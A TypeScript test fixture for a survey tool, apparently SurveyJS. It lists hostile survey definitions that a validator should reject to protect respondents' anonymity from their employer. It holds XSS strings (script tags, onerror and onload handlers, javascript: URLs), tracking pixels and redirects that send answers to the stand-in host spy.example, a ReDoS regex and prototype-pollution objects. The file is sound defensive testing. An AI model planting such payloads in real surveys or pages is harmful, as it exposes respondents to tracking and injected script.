import { instruments } from '#surveys/index.ts'
import type { DefinitionRefusal } from '#surveys/questionnaire.ts'

type Json = Record<string, unknown>
interface Draft extends Json {
  pages: (Json & { elements: (Json & { choices: Json[] })[] })[]
}

/** A definition by which an employer would learn who answers, or what. */
export interface HostileDefinition {
  /** How it would leak. */
  leak: string
  definition: Json
  reason: DefinitionRefusal
}

/** Whatever asks for something there, asks the spy. */
export const spy = 'https://spy.example'
/** What a script of the definition would run. */
export const payload = "window.leaked='yes'"

const text = (fr: string, en = fr) => ({ default: fr, en })

function hostile(
  leak: string,
  reason: DefinitionRefusal,
  edit: (draft: Draft) => unknown,
): HostileDefinition {
  const definition = structuredClone(instruments['barometre-agents'].definition) as Draft
  edit(definition)
  return { leak, definition, reason }
}

const top = (leak: string, extra: Json, reason: DefinitionRefusal = 'unknown-property') =>
  hostile(leak, reason, (draft) => merge(draft, extra))
const page = (leak: string, extra: Json, reason: DefinitionRefusal = 'unknown-property') =>
  hostile(leak, reason, (draft) => merge(draft.pages[0]!, extra))
const question = (leak: string, extra: Json, reason: DefinitionRefusal = 'unknown-property') =>
  hostile(leak, reason, (draft) => merge(draft.pages[0]!.elements[0]!, extra))
const choice = (leak: string, extra: Json, reason: DefinitionRefusal = 'unknown-property') =>
  hostile(leak, reason, (draft) => merge(draft.pages[0]!.elements[0]!.choices[0]!, extra))
const element = (leak: string, added: Json) =>
  hostile(leak, 'unknown-type', (draft) => draft.pages[0]!.elements.unshift(added as never))
const title = (leak: string, words: string, reason: DefinitionRefusal = 'markup') =>
  question(leak, { title: text(words) }, reason)

/** `JSON.parse` makes an own property of `__proto__`, which `Object.assign` would not. */
function merge(into: Json, extra: Json): void {
  for (const [key, value] of Object.entries(extra))
    Object.defineProperty(into, key, { value, enumerable: true, writable: true, configurable: true })
}

const onError = `<img src="${spy}/x.png" onerror="${payload}">`
const redos = '^(([a-z])+.)+[A-Z]([a-z])+$'

export const hostileDefinitions: HostileDefinition[] = [
  // Something fetched from elsewhere tells who opened the page, and when.
  element('an image element from elsewhere', { type: 'image', name: 'IMG', imageLink: `${spy}/pixel.gif` }),
  element('a video from elsewhere', {
    type: 'image',
    name: 'VID',
    contentMode: 'youtube',
    imageLink: `${spy}/v`,
  }),
  element('an HTML element with a pixel', { type: 'html', name: 'HTM', html: onError }),
  element('an HTML element with a frame', {
    type: 'html',
    name: 'FRM',
    html: `<iframe src="${spy}"></iframe>`,
  }),
  element('a choice of pictures from elsewhere', {
    ...{ type: 'imagepicker', name: 'PIC', title: text('Image') },
    choices: [{ value: 1, imageLink: `${spy}/1.png` }],
  }),
  top('a logo from elsewhere', { logo: `${spy}/logo.png` }),
  top('a background from elsewhere', { backgroundImage: `${spy}/background.png` }),
  top('a theme with a font from elsewhere', { cssVariables: { '--font': `url(${spy}/f.woff2)` } }),
  page('a style with a URL', { style: `background: url(${spy}/p)` }),
  question('a class name that closes its attribute', { cssClasses: { root: `"><img src=${spy}/c>` } }),
  title('an image in markdown', `![x](${spy}/md.png)`),
  title('a link in markdown', `[Votre charte](${spy}/charte)`),
  title('an image in HTML', onError),
  title('an image in a data: URI', '<img src="data:image/svg+xml;base64,PHN2Zy8+">'),
  question('an image in the English title alone', { title: text('Une question', onError) }, 'markup'),
  question('an image in a third language', { title: { ...text('Une question'), de: onError } }),
  choice('an image in the text of a choice', { text: text(onError) }, 'markup'),
  page('an image in the explanation of a page', { description: text(onError) }, 'markup'),
  top('an image in the title of the survey', { title: text(onError) }, 'markup'),
  // Choices asked for while answering say what was answered before.
  question('choices fetched with an answer in their address', {
    choicesByUrl: { url: `${spy}/choices?a={BA02}`, valueName: 'x' },
  }),
  question('choices read from another question', { choicesFromQuestion: 'BA02' }),
  question('choices loaded lazily', { choicesLazyLoadEnabled: true }),
  // The page goes away with answers in its address.
  top('leaving for an address with an answer', { navigateToUrl: `${spy}/?a={BA01}` }),
  top('leaving on a condition', {
    navigateToUrlOnCondition: [{ expression: '{BA01} < 3', url: `${spy}/unhappy` }],
  }),
  top('a page of thanks with an answer in a pixel', { completedHtml: `<img src="${spy}/?a={BA01}">` }),
  top('a page of thanks on a condition', {
    completedHtmlOnCondition: [{ expression: '{BA01} < 3', html: `<img src="${spy}/unhappy">` }],
  }),
  top('a page while loading', { loadingHtml: onError }),
  top('a page for who answered already', { completedBeforeHtml: onError }),
  // What remembers, tells.
  top('a cookie', { cookieName: 'diapason-seen' }),
  top('sending at each page', { sendResultOnPageNext: true, surveyPostId: 'spy' }),
  top('a survey fetched from SurveyJS’s service', { surveyId: 'spy', surveyShowDataSaving: true }),
  top('storing what others read', { storeOthersAsComment: true, surveyPostId: 'spy' }),
  // Files and drawings name their author.
  element('a file', { type: 'file', name: 'FIL', title: text('Pièce'), storeDataAsText: true }),
  element('a signature', { type: 'signaturepad', name: 'SIG', title: text('Signature') }),
  // Time tells people apart.
  top('a timer for the whole', { timeLimit: 60, showTimer: true }),
  page('a timer for a page', { timeLimit: 10 }),
  // What runs.
  title('a script', `<script>${payload}</script>`),
  title('a script in an attribute', `<svg onload="${payload}">`),
  title('a script in an address', `javascript:${payload}`),
  title('a script written with entities', `&#60;img src=x onerror=${payload}&#62;`),
  title('an unclosed element', `<img src=x onerror=${payload} `),
  question('an expression with a side effect', { setValueExpression: 'spy({BA02})' }),
  question('a default by an expression', { defaultValueExpression: 'currentUser()' }),
  question('a trigger that copies an answer', {
    setValueIf: '{BA02} notempty',
    setValueExpression: '{BA02}',
  }),
  top('triggers that run an expression', {
    triggers: [
      { type: 'runexpression', expression: '{BA01} = 1', runExpression: 'spy()', setToName: 'BA02' },
    ],
  }),
  top('computed values kept with the answer', {
    calculatedValues: [{ name: 'who', expression: 'iif({BA01} = 1, 1, 0)', includeIntoResult: true }],
  }),
  top('variables of the address', { questionsOnPageMode: 'single', variables: { who: '{url.who}' } }),
  element('a widget of one’s own', { type: 'spy-widget', name: 'WID', title: text('Autre') }),
  element('an expression shown', { type: 'expression', name: 'EXP', expression: '{BA01}' }),
  question('another renderer', { renderAs: 'spy' }),
  // A regular expression that never ends holds the page, and says so by its silence.
  question('a catastrophic regular expression', { validators: [{ type: 'regex', regex: redos }] }),
  question('a validator by an expression', {
    validators: [{ type: 'expression', expression: 'spy({BA01})' }],
  }),
  // What is shown by an answer tells the answer (disclosure.md, R1).
  question('a question shown by an answer', { visibleIf: '{BA02} = 1' }),
  question('a question asked by an answer', { requiredIf: '{BA02} = 1' }),
  page('a page shown by an answer', { visibleIf: '{BA02} = 1' }),
  choice('a choice shown by an answer', { visibleIf: '{BA02} = 1' }),
  page('a page asked of those who answered so', { askedOf: '{BA02} = 1' }, 'not-a-list'),
  page('a page asked by an expression on the group', { askedOf: ["{GROUP} = 'epci'"] }, 'bad-groups'),
  page('a page asked of a group of no démarche', { askedOf: ['constructor'] }, 'bad-groups'),
  page('a page asked of a group before the group is', { askedOf: ['epci'] }, 'group-not-before'),
  question('a question asked of a group inside a page', { askedOf: ['epci'] }),
  hostile('a comment of which the group is known', 'text-of-some', (draft) => {
    const group = draft.pages.pop()!
    draft.pages.unshift(group)
    merge(draft.pages.at(-1)!, { askedOf: ['epci'] })
  }),
  title('an answer piped into a title', 'Vous avez répondu {BA01}', 'variable'),
  // Two answers under one name, or one under a name that isn't its own.
  question('an answer under another name', { valueName: 'BA02' }),
  question('a name of a prototype', { name: '__proto__' }, 'bad-name'),
  top('a polluted prototype', JSON.parse('{"__proto__": {"leaked": "yes"}}')),
  question('a polluted prototype in a question', JSON.parse('{"__proto__": {"choicesByUrl": {}}}')),
  question('a constructor', JSON.parse('{"constructor": {"prototype": {"leaked": "yes"}}}')),
  // Texts that don't say what they show.
  title('a text written backwards', 'Vos réponses sont \u202Esemynona\u202C', 'bad-text'),
  title('an invisible mark in a title', 'Une question\u200B marquée', 'bad-text'),
  title('a text without end', 'a'.repeat(100_000), 'bad-text'),
  hostile('a thousand pages', 'wrong-count', (draft) => {
    draft.pages = Array.from({ length: 1000 }, () => draft.pages[0]!)
  }),
  hostile('a question that asks for the post', 'asks-position', (draft) => {
    const open = draft.pages.flatMap(({ elements }) => elements).find(({ type }) => type === 'comment')!
    open.title = text('Quel est votre poste ?', 'What is your position?')
  }),
]
